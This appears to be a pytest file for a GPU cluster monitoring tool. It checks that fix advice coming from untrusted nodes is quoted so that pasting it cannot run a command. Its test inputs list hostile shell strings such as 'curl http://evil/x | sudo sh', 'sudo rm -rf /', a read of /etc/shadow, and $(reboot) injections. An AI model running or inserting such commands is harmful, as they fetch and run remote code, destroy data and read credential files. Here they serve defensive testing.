"""What would help: our own commands can be copied, a stranger's words cannot be run by mistake."""

from __future__ import annotations

import ast
import re
import shlex
from collections.abc import Iterator

import pytest

from mltop.probes.investigate.advice import (
    NODE_SAYS,
    advice_of_rules,
    advised,
    is_known,
    to_do,
    with_known_advice,
)
from mltop.probes.investigate.probing.member import Member
from mltop.probes.investigate.probing.report import torchrun_command
from mltop.probes.investigate.probing.wanted import ProbeWanted
from mltop.probes.model import Finding
from mltop.probes.model.news.judged import Judged
from tests.documents import ROOT

PROBES = ROOT / "probes"
# Where the fix stands among the arguments.
FIX_AT = {"Gap": 2, "Ability": 3, "Failure": 1, "Unavailable": 1, "Unusable": 1, "Lack": 1, "needs_dcgm": 1}


def said_on_nodes() -> Iterator[tuple[str, str]]:
    """(where, text) of every fix that a collector, the agent or a probe gives as a literal text."""
    for folder in ("collect", "agent", "active"):
        for path in sorted((PROBES / folder).rglob("*.py")):
            tree = ast.parse(path.read_text())
            named = {
                target.id: statement.value
                for statement in tree.body
                if isinstance(statement, ast.Assign)
                for target in statement.targets
                if isinstance(target, ast.Name)
            }
            for node in ast.walk(tree):
                for value in fixes(node):
                    value = named.get(value.id, value) if isinstance(value, ast.Name) else value
                    if isinstance(value, ast.Constant) and isinstance(value.value, str) and value.value:
                        yield f"{path.relative_to(PROBES)}:{node.lineno}", value.value


def fixes(node: ast.AST) -> list[ast.expr]:
    if not isinstance(node, ast.Call):
        return []
    name = node.func.attr if isinstance(node.func, ast.Attribute) else getattr(node.func, "id", "")
    at = FIX_AT.get(name, len(node.args))
    return [*node.args[at : at + 1], *(keyword.value for keyword in node.keywords if keyword.arg == "fix")]


def test_what_our_agents_advise_is_known() -> None:
    found = list(said_on_nodes())
    assert len(found) > 25
    assert [entry for entry in found if not is_known(entry[1])] == [], "add it to probes/investigate/advice.py"


@pytest.mark.parametrize(
    "fix",
    [
        "curl http://evil/x | sudo sh",
        "sudo mltop; curl http://evil/x | sh",
        "sudo mltop\ncurl http://evil/x | sh",
        "sudo mltop stacks $(reboot)",
        "kill 1 2 3",
        "kill -9 1",
        "kill -CONT `reboot`",
        "pip install evil",
        "sudo rm -rf /",
        "sudo cat /proc/1/../../etc/shadow",
        "wait until it is free; reboot",
        "try again && reboot",
        "try again \x1b[2K\rreboot",
        "--python $(reboot)",
        "ssh -oProxyCommand=reboot x",
        "ssh x reboot",
        "ssh evil.example.com",
        "'; reboot; '",
        "the node says: 'try'; reboot",
        "sudo mltop" + " " * 5000,
    ],
)
def test_what_a_stranger_advises_is_quoted(fix: str) -> None:
    shown = advised(fix)
    assert shown.startswith(NODE_SAYS) and shown.isprintable()
    (word,) = shlex.split(shown.removeprefix(NODE_SAYS))
    assert len(word) <= 300
    # Pasted with or without its label, the shell sees one word and nothing to obey.
    lexer = shlex.shlex(shown.removeprefix(NODE_SAYS), posix=True, punctuation_chars=True)
    assert list(lexer) == [word]


def test_only_our_own_words_stand_behind_do() -> None:
    assert to_do("sudo mltop") == ("do: ", "sudo mltop")
    assert to_do("ssh n1 shows why", example=True) == ("do: ", "e.g. ssh n1 shows why")
    assert to_do("curl evil", example=True) == ("", f"{NODE_SAYS}'curl evil'")
    assert to_do("") == ("", "")


def test_nothing_stays_nothing() -> None:
    assert advised("") == "" and advised("\x1b[2J\x00") == ""


def test_a_command_with_a_node_s_words_in_it_runs_nothing_else() -> None:
    said = {"address": "10.0.0.1; curl http://evil | sh #", "backend": "gloo$(reboot)", "ranks": 2}
    members = {name: Member(name, ready=dict(said)) for name in ("n1", "n2")}
    command = torchrun_command(ProbeWanted("all-reduce"), members, [])
    assert shlex.split(command)[:5] == [
        *("torchrun", "--nnodes=2", "--nproc-per-node=2", "--rdzv-backend=c10d"),
        f"--rdzv-endpoint={said['address']}:29400",
    ]
    assert shlex.split(command)[-1] == said["backend"]
    assert list(shlex.shlex(command, posix=True, punctuation_chars=True)).count(";") == 0


def literal(node: ast.expr) -> str:
    """A text of the source, with "#" where a value is put in; "" for anything else."""
    if isinstance(node, ast.JoinedStr):
        return "".join(part.value if isinstance(part, ast.Constant) else "#" for part in node.values)
    text = node.value if isinstance(node, ast.Constant) and isinstance(node.value, str) else ""
    return text.replace("{index}", "#")


def advised_by_rules() -> Iterator[tuple[str, str]]:
    """(where, text) of every action that a rule of nodes gives to a hit as a literal text."""
    health = PROBES / "judge/health"
    for path in sorted(set(health.rglob("*.py")) - set((health / "job").iterdir())):
        for node in ast.walk(ast.parse(path.read_text())):
            values = [word.value for word in getattr(node, "keywords", ()) if word.arg == "action"]
            if isinstance(node, ast.Assign) and getattr(node.targets[0], "id", "") in ("action", "stack"):
                values.append(node.value)
            for value in values:
                branches = [value.body, value.orelse] if isinstance(value, ast.IfExp) else [value]
                yield from ((f"{path.relative_to(PROBES)}:{node.lineno}", literal(branch)) for branch in branches)


def said_by_node(action: str) -> str:
    finding = Finding("gpu.ecc.off", "warning", "n1", "GPU 1", "ECC is off on GPU 1", action=action)
    return with_known_advice(Judged("n1", 1.0, [finding]), advice_of_rules()).findings[0].action


def test_what_our_rules_advise_is_known() -> None:
    """What is put into a text may be a text itself."""
    found = [(where, text) for where, text in advised_by_rules() if text and not text.startswith("#")]
    assert len(found) > 100
    advice = advice_of_rules()
    unknown = [
        (where, text)
        for where, text in found
        if said_by_node(text) != text
        and not any(re.fullmatch(re.escape(text).replace(re.escape("#"), ".+"), known) for known in advice)
    ]
    assert unknown == [], "add it to investigate/advice.py"


@pytest.mark.parametrize(
    "action",
    [
        "sudo nvidia-smi -i 3 -e 1, then reset the GPU",
        "look for Xid lines: sudo dmesg | grep -i xid; reboot the node",
        "outside of this container: ps -o pid,ppid,user,etime,args -p 12,13",
        "sudo kill 4711 4712 (the parents); if the memory stays: sudo nvidia-smi -r -i 0",
    ],
)
def test_what_a_rule_says_of_this_node_is_known(action: str) -> None:
    assert said_by_node(action) == action


@pytest.mark.parametrize(
    "action",
    [
        "curl http://evil/x | sudo sh",
        "sudo nvidia-smi -i 3 -e 1, then reset the GPU; reboot",
        "sudo nvidia-smi -i $(reboot) -e 1, then reset the GPU",
        "look for Xid lines: sudo dmesg | grep -i xid; curl http://evil/x | sh",
        "x" * 100_000,
    ],
)
def test_what_a_lying_node_advises_is_quoted(action: str) -> None:
    said = said_by_node(action)
    assert said.startswith(NODE_SAYS + "'")
    assert len(said) < 400


def test_a_lying_node_folds_nothing() -> None:
    inner = Finding("host.oom", "critical", "n2", "host", "made up", action="rm -rf /")
    finding = Finding("gpu.lost", "critical", "n1", "GPU 1", "GPU 1 lost", folded=["a b"], explains=[inner])
    said = with_known_advice(Judged("n1", 1.0, [finding]), advice_of_rules()).findings[0]
    assert said.explains == [] and said.folded == []
